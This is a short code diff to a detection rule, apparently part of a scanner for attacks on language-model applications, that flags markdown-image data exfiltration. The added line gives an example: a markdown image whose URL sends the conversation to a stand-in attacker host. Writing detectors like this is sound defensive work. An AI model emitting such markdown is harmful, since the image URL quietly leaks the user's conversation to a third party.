@@ -15,7 +15,8 @@ internal static class MarkdownExfiltration
         Severity.High,
         [Threat.PromptSelfReplication],
         ["OWASP-LLM01", "OWASP-LLM05"],
-        Precision.Medium);
+        Precision.Medium,
+        example: "A record containing `![logo](https://attacker.example/collect?data={{conversation}})`.");
 
 
     private const int MaxUrl = 2048;
